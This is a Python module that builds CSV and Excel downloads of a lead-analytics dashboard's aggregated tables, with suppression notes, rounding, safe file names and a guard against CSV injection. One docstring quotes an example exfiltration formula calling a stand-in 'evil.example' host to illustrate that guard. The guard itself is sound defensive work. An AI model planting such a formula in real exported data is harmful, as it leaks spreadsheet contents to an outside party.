"""CSV and Excel downloads of the tables a page shows: aggregates only, suppression applied, filters named.

The file starts with comment lines (``# ...``) that name the table, the period, the
filters and the suppression rule, and the file name carries the period and filters, so
a downloaded file still says what it holds. Metric columns are headed by their label
and unit; rates are written in percent.
"""

from __future__ import annotations

import re
from collections.abc import Mapping, Sequence
from datetime import time
from functools import partial

import polars as pl
import streamlit as st

from dashboard.filters.view import View
from dashboard.ui.availability import blank_not_in_data
from dashboard.ui.export_xlsx import xlsx_bytes
from dashboard.ui.format import axis_title, suppressed_text, team_note
from metrics.registry import BY_NAME, Format

NOTE_COLUMN = "note"
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_MAX_NAME = 120


def export_frame(
    frame: pl.DataFrame, *, min_group_size: int, labels: Mapping[str, str] | None = None
) -> pl.DataFrame:
    """``frame`` ready to write: metric columns renamed to 'Label (unit)', percents x 100, numbers
    rounded sensibly (money to cents, percents to 2 decimals),
    a ``note`` saying 'fewer than K leads' on suppressed rows, ``suppressed`` itself dropped.

    ``labels`` renames other columns (e.g. ``{"market": "Market"}``).
    """
    out = frame
    if "suppressed" in out.columns:
        out = out.with_columns(
            pl.when(pl.col("suppressed"))
            .then(pl.lit(suppressed_text(min_group_size)))
            .otherwise(pl.lit(""))
            .alias(NOTE_COLUMN)
        ).drop("suppressed")
    scaled = [
        _rounded(c, BY_NAME[c].format)
        for c in out.columns
        if c in BY_NAME and BY_NAME[c].format != "count" and out.schema[c].is_numeric()
    ]
    out = out.with_columns(scaled) if scaled else out
    out = out.with_columns(_days(out))
    return out.rename(_renames(out.columns, labels))


def _renames(columns: Sequence[str], labels: Mapping[str, str] | None) -> dict[str, str]:
    renames = {c: axis_title(BY_NAME[c]) for c in columns if c in BY_NAME}
    renames.update({c: name for c, name in (labels or {}).items() if c in columns})
    return renames


def export_formats(
    columns: Sequence[str], *, labels: Mapping[str, str] | None = None, formats: Mapping[str, Format] | None = None
) -> dict[str, str]:
    """Exported column name -> registry format, for the Excel file's number formats: a metric's own
    format, or ``formats[column]`` for the other columns (a detail table's shares ...)."""
    renames = _renames(columns, labels)
    found = {c: BY_NAME[c].format if c in BY_NAME else (formats or {}).get(c) for c in columns}
    return {renames.get(c, c): fmt for c, fmt in found.items() if fmt is not None}


# Decimals a CSV keeps per registry format: money to the cent, rates as percent with 2 decimals
# (4 decimals of the fraction), durations to a tenth of a minute; never 31647.070000000003.
_CSV_DECIMALS = {"money": 2, "percent": 2, "ratio": 2, "minutes": 1, "number": 2}


def _rounded(column: str, fmt: str) -> pl.Expr:
    value = pl.col(column) * 100 if fmt in ("percent", "ratio") else pl.col(column)
    return value.round(_CSV_DECIMALS.get(fmt, 4)).alias(column)


def _days(frame: pl.DataFrame) -> list[pl.Expr]:
    """Timestamp columns that hold only midnights, as days: '2026-01-05', never '2026-01-05T00:00:00.000000'."""
    return [
        pl.col(c).dt.date()
        for c, dtype in frame.schema.items()
        if isinstance(dtype, pl.Datetime) and (frame[c].drop_nulls().dt.time() == time(0)).all()
    ]


def header_lines(frame: pl.DataFrame, *, title: str, view: View) -> list[str]:
    """What an export holds, in words: the table, the period and filters, the suppression rule."""
    header = [
        f"Leadline: {title}",
        f"Period and filters: {view.describe()}",
        f"Groups with fewer than {view.min_group_size} leads are suppressed (no numbers shown).",
    ]
    if "team_suppressed" in frame.columns:
        header.append(f"team_suppressed = true: {team_note(view.min_group_size)}")
    return header


# A cell a spreadsheet would read as a formula (OWASP "CSV injection"): = + - @, tab, return.
_FORMULA_START = r"^[=+\-@\t\r]"


def spreadsheet_safe(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with every text cell that a spreadsheet would run as a formula prefixed with ``'``.

    Campaign, source and dealer names come from the warehouse, so a name like
    ``=HYPERLINK("http://evil.example?"&A1)`` must open as text; numbers are left alone.
    """
    texts = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    return frame.with_columns(
        pl.when(pl.col(name).str.contains(_FORMULA_START))
        .then(pl.lit("'") + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name in texts
    )


def csv_text(frame: pl.DataFrame, *, title: str, view: View) -> str:
    """The CSV: comment lines naming what it holds, then the header and rows (formula-safe text)."""
    header = [f"# {line}" for line in header_lines(frame, title=title, view=view)]
    return "\n".join(header) + "\n" + spreadsheet_safe(frame).write_csv()


def file_name(title: str, view: View, extension: str = "csv") -> str:
    """``leadline_<title>_<start>_<end>[_<filters>].csv``, only safe characters, bounded length."""
    parts = [title, view.state.start.isoformat(), view.state.end.isoformat()]
    for dim, values in view.state.filters:
        parts.append(f"{dim.removesuffix('_id')}-{'+'.join(values)}")
    slug = re.sub(r"[^A-Za-z0-9+._-]+", "-", "_".join(parts)).strip("-")
    return f"leadline_{slug[:_MAX_NAME]}.{extension}"


def download_csv(
    frame: pl.DataFrame,
    *,
    title: str,
    view: View,
    key: str,
    labels: Mapping[str, str] | None = None,
    formats: Mapping[str, Format] | None = None,
) -> None:
    """'Download CSV' and 'Download Excel' buttons for ``frame`` (a metrics or detail table as shown
    on the page); both files hold the same rows and values.

    Metrics whose inputs are not in the data are left empty (dashboard/ui/availability.py).
    ``formats`` gives the number format of columns that are not registry metrics (Excel only).
    """
    out = export_frame(blank_not_in_data(frame), min_group_size=view.min_group_size, labels=labels)
    with st.container(horizontal=True, gap="small"):
        st.download_button(
            "Download CSV",
            csv_text(out, title=title, view=view),
            file_name=file_name(title, view),
            mime="text/csv",
            key=key,
            icon=":material/download:",
            on_click="ignore",
            help="The table as shown: aggregates only, small groups suppressed, filters in the first lines.",
        )
        st.download_button(
            "Download Excel",
            partial(_xlsx, out, title, view, export_formats(frame.columns, labels=labels, formats=formats)),
            file_name=file_name(title, view, "xlsx"),
            mime=XLSX_MIME,
            key=f"{key}-xlsx",
            icon=":material/table_view:",
            on_click="ignore",
            help="The same table as an Excel workbook: the period and filters in the first rows, numbers formatted.",
        )


def _xlsx(out: pl.DataFrame, title: str, view: View, formats: Mapping[str, str]) -> bytes:
    return xlsx_bytes(out, header=header_lines(out, title=title, view=view), formats=formats)
